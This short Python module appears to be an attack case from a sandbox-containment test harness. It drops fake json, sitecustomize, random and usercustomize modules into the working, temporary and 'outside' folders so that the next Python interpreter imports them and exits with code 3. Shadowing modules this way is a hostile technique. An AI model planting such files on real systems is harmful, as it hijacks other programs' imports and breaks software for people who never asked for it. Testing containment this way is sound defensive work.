"""Leave modules that the next interpreter imports instead of the real ones.

evidence: litter file poison
"""

import contextlib
import os


def attack(arena: dict[str, str]) -> None:
    for folder in (os.getcwd(), arena["tmp"], arena["outside"]):
        for name in ("json", "sitecustomize", "random", "usercustomize"):
            with contextlib.suppress(OSError), open(f"{folder}/{name}.py", "w") as file:
                file.write("raise SystemExit(3)\n")
